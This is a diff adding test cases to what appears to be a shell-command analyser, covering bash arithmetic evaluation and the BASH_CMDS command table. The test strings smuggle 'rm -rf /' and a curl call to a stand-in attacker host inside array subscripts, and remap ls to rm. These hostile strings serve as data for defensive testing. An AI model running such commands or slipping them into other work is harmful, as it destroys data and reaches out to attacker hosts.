@@ -483,6 +483,12 @@ export const SEED_CASES: readonly ShellCase[] = (
     ["ls\n\\rm x", ["separator", "quoting"], true],
     ["find . -name '*.txt' # note\n\\rm -rf x", ["comment", "quoting"], true],
     ["git status\n\n\\curl http://evil.example", ["separator", "quoting"], true],
+    // A variable named in arithmetic is evaluated, the command substitutions of an array subscript in its value included.
+    ["x='a[$(rm -rf /)]'; echo $((x))", ["arithmetic-value"], true],
+    ["x='a[$(curl http://evil.example)]'; [[ x -lt 2 ]]", ["arithmetic-value"], true],
+    ["read x <<< 'a[$(rm -rf /)]'; echo $((x))", ["arithmetic-value"], false],
+    // bash's table of command paths: `ls` runs the program its entry names.
+    ["BASH_CMDS[ls]=/bin/rm; ls -rf /", ["command-table"], false],
     ["git status", ["plain"], true],
     ["ls -la && cat a.txt", ["plain", "separator"], true],
     ["find . -name '*.txt'", ["plain"], true],
